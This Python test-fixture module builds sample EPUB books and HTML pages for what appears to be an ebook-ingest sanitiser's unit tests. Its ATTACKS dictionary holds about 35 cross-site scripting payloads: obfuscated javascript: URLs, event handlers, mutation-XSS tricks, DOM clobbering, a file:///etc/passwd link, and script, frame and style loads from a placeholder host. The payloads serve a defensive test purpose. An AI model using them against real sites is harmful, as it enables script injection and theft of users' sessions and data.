"""Books and pages that tests of chapters read: one with everything that is shown, and what somebody hostile writes."""

import base64
import io
from collections.abc import Sequence
from pathlib import Path

from PIL import Image

from tests.unit.ingest.books import make, page

SVG = (
    '<svg xmlns="http://www.w3.org/2000/svg" width="60" height="40" viewBox="0 0 60 40">'
    '<rect width="60" height="40" fill="#ff8000"/></svg>'
)


def picture(width: int, height: int, kind: str = "PNG", colour: str = "#0a6a66") -> bytes:
    data = io.BytesIO()
    Image.new("RGB", (width, height), colour).save(data, kind)
    return data.getvalue()


def embedded(width: int, height: int, colour: str = "#0a6a66") -> str:
    return f"data:image/png;base64,{base64.b64encode(picture(width, height, colour=colour)).decode()}"


RICH = f"""
<section epub:type="chapter" id="mo-dau"><h1>Chương 1. Con suối</h1>
<p>Con suối <em>nhỏ</em> chảy qua <strong>bản</strong>, <span style="font-style: italic">rì rào</span> cả ngày.<a
epub:type="noteref" id="r1" href="#n1">1</a></p>
<p xml:lang="en">The stream runs through the <i>village</i>.</p>
<figure><img src="../img/suoi.png" alt="Con suối trong rừng"/><figcaption>Hình 1. Con suối</figcaption></figure>
<p><img src="../img/khong-loi.jpg"/> <img src="../img/mat.png" alt="Hình đã mất"/>
<img src="https://ngoai.test/theo-doi.png" alt="Ảnh của trang khác"/></p>
<h3>Nước chảy</h3>
<ul><li>Từ cao xuống thấp</li><li>Ra sông<ol type="a" start="3"><li>rồi ra biển</li></ol></li></ul>
<dl><dt>Suối</dt><dd>dòng nước nhỏ</dd></dl>
<table><caption>Mực nước</caption><thead><tr><th></th><th scope="col">Mùa mưa</th><th scope="col">Mùa khô</th></tr></thead>
<tbody><tr><th scope="row">Độ sâu (mét)</th><td colspan="2">3,5</td></tr></tbody></table>
<p>Vận tốc <math xmlns="http://www.w3.org/1998/Math/MathML"><mi>v</mi><mo>=</mo><mfrac><mi>s</mi><mi>t</mi></mfrac></math>
và <math xmlns="http://www.w3.org/1998/Math/MathML" display="block"><mfenced><mrow><mi>x</mi><mo>+</mo><mn>1</mn></mrow></mfenced></math></p>
<p>Xem <a href="c2.xhtml#goc-cay">gốc cây</a>, <a href="#mo-dau">đầu chương</a>, <a href="https://ngoai.test/a?b=1">trang khác</a>
và <a href="JaVa&#10;Script:alert(1)">chỗ này</a>.</p>
<pre>  thẳng
    cột</pre><blockquote><p>Nước chảy đá mòn.</p></blockquote>
{SVG}
<aside epub:type="footnote" id="n1"><p>Suối Lê-nin. <a href="#r1">↩</a></p></aside></section>
"""
SECOND = '<h2>Chương 2. Cây đa</h2><p>Cây đa đứng ở đầu làng.</p><h2 id="goc-cay">Gốc cây</h2><p>Rễ cây ôm tảng đá.</p>'


def rich_book(path: Path) -> Path:
    """A book of two chapters with everything that is shown of one."""
    path.parent.mkdir(parents=True, exist_ok=True)
    extra = {
        "OEBPS/img/suoi.png": picture(1600, 900),
        "OEBPS/img/khong-loi.jpg": picture(120, 80, "JPEG", "#a8201a"),
    }
    return make(path, [page(RICH), page(SECOND)], extra=extra)


def rich_page(path: Path) -> Path:
    """An HTML file of three sections, its pictures inside; a heading in a division begins the second."""
    path.parent.mkdir(parents=True, exist_ok=True)
    body = (
        '<p id="dau">Lời nói đầu. <a href="#hai">Xem phần hai</a>, <a href="#ba">phần ba</a>, <a href="other.html">tệp khác</a></p>'
        f'<div id="hai"><h2>Phần hai</h2><p>Một hình <img src="{embedded(40, 30)}" alt="ô xanh"></p></div>'
        f'<div><h3 id="ba">Phần ba</h3><p>Hình khác <img src="{embedded(50, 20, "#ff8000")}"> và <a href="#dau">về đầu</a></p></div>'
    )
    path.write_text(
        f'<!doctype html><html lang="vi"><head><title>Trang</title></head><body>{body}</body></html>', "utf-8"
    )
    return path


# One attack each; {url} answers nobody and may not be asked.
ATTACKS: dict[str, str] = {
    "script": "<script>document.title='taken'</script><script src='{url}/js'></script>",
    "script in a script": "<scr<script>ipt>document.title='taken'</scr</script>ipt>",
    "handler": "<img src=x onerror=\"document.title='taken'\"><p onclick=alert(1) onmouseover=alert(1)>x</p>",
    "handler after a slash": "<img/src=x/onerror=document.title='taken'><svg/onload=document.title='taken'>",
    "javascript": "<a href=\"javascript:document.title='taken'\">x</a>",
    "javascript with spaces": "<a href=\" \t\njava\nscr\tipt:document.title='taken'\">x</a>",
    "javascript by numbers": "<a href=\"&#x6A;&#97;va&#115;cript&colon;document.title='taken'\">x</a>",
    "javascript behind a control": "<a href=\"\x01javascript:alert(1)\">x</a><a href=\"java\x00script:alert(1)\">y</a>",
    "other schemes": "<a href='vbscript:x'>a</a><a href='data:text/html,<script>alert(1)</script>'>b</a><a href='blob:x'>c</a>"
    "<a href='file:///etc/passwd'>d</a><a href='view-source:x'>e</a><a href='//evil.test/x'>f</a>",
    "xlink": "<svg><a xlink:href=\"javascript:alert(1)\"><text y=9>x</text></a></svg><math href='javascript:alert(1)'><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "animated link": "<svg><a><set attributeName=href to=javascript:alert(1)></set><text y=9>x</text></a><animate attributeName=href values=javascript:alert(1) /></svg>",
    "frames": "<iframe src='{url}/frame'></iframe><iframe srcdoc='<script>parent.document.title=1</script>'></iframe><frameset onload=alert(1)><frame src='{url}'></frameset>",
    "objects": "<object data='{url}/o' type='text/html'></object><embed src='{url}/e'><applet code=x></applet><portal src='{url}'></portal>",
    "forms": "<form action='{url}/f'><input name=q autofocus onfocus=alert(1)><button formaction='javascript:alert(1)'>go</button><select><option>o</select><textarea>t</textarea></form><isindex action='{url}'>",
    "base": "<base href='{url}/'><a href='x.html'>x</a><img src='x.png' alt='ảnh'>",
    "refresh": "<meta http-equiv=refresh content='0;url={url}'><meta charset=utf-7><link rel=stylesheet href='{url}/css'><link rel=prefetch href='{url}'>",
    "styles": "<style>@import '{url}/css'; body{display:none}</style><p style=\"position:fixed;top:0;left:0;width:100%;height:100%;background:url({url}/bg)\">x</p><div style='behavior:url(x);-moz-binding:url(x)'>y</div>",
    "styles that break out": "<p class='top skip' id='main'>x</p></div></section></main><div class=sprite>y</div></body></html><p>z</p>",
    "pictures from outside": "<img src='{url}/i' srcset='{url}/i2 2x' lowsrc='{url}/l' dynsrc='{url}/d'><picture><source srcset='{url}/s'><img src='{url}/p'></picture><video poster='{url}/v' src='{url}/v'></video><audio src='{url}/a' autoplay></audio><input type=image src='{url}/in'><table background='{url}/t'><tr><td background='{url}/t'>c</td></tr></table><svg><image href='{url}/si'/><feimage href='{url}/f'/><use href='{url}/u#a'/></svg>",
    "data pictures": "<img src='data:image/svg+xml,<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>'><img src='data:text/html;base64,PHNjcmlwdD4='><object data='data:text/html,<script>alert(1)</script>'></object>",
    "mxss by noscript": "<noscript><p title=\"</noscript><img src=x onerror=document.title='taken'>\"></noscript>",
    "mxss by style": "<svg></p><style><a id=\"</style><img src=1 onerror=document.title='taken'>\">",
    "mxss by math": "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=document.title='taken'&gt;\">",
    "mxss by annotation": "<math><annotation-xml encoding=\"text/html\"><style><img src=x onerror=document.title='taken'></style></annotation-xml></math>",
    "mxss by integration": "<math><mi><p><style><img src=x onerror=document.title='taken'></style></p></mi><mtext><b title='</mtext><script>alert(1)</script>'>x</b></mtext></math>",
    "mxss by textarea": "<textarea><img title=\"</textarea><img src=x onerror=document.title='taken'>\"></textarea><xmp><p title=\"</xmp><img src=x onerror=alert(1)>\"></xmp>",
    "mxss by template": "<template><style><a title=\"</style><img src=x onerror=document.title='taken'>\"></template>",
    "mxss by form": "<form><math><mtext></form><form><mglyph><svg><mtext><textarea><path id=\"</textarea><img onerror=document.title='taken' src=1>\"></form>",
    "mxss by foreign": "<svg><foreignObject><math><mtext><a title='<style><img src=x onerror=alert(1)>'>x</a></mtext></math></foreignObject><desc><script>alert(1)</script></desc></svg>",
    "comments": "<!--><img src=x onerror=document.title='taken'>--><!--! x --!><script>alert(1)</script--><![CDATA[<script>alert(1)</script>]]><?php <script>alert(1)</script> ?>",
    "entities": "&lt;script&gt;document.title='taken'&lt;/script&gt;<p title='&quot;><script>alert(1)</script>'>x</p>",
    "clobbering": "<a id=location name=location href='{url}'>x</a><p id=__proto__>y</p><img name=cookie id=body src=x>",
    "tags unclosed": "<p><b><i><u><a href='https://a.test'><table><tr><td><script>alert(1)",
    "null characters": "<scr\x00ipt>alert(1)</scr\x00ipt><im\x00g src=x oner\x00ror=alert(1)>",
    "utf-7": "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "marks of our own": "<img data-picture='1' src='{url}/own'><a data-to='1#in-x' href='javascript:alert(1)'>x</a><mark>không phải chỗ tìm</mark>",
}  # fmt: skip


def hostile_book(path: Path, attacks: Sequence[str], url: str = "https://ngoai.test") -> Path:
    """A book of a chapter an attack, each with a word to be found before and after it."""
    path.parent.mkdir(parents=True, exist_ok=True)
    return make(path, [page(f"<p>Trước đó.</p>{attack.replace('{url}', url)}<p>Sau đó.</p>") for attack in attacks])
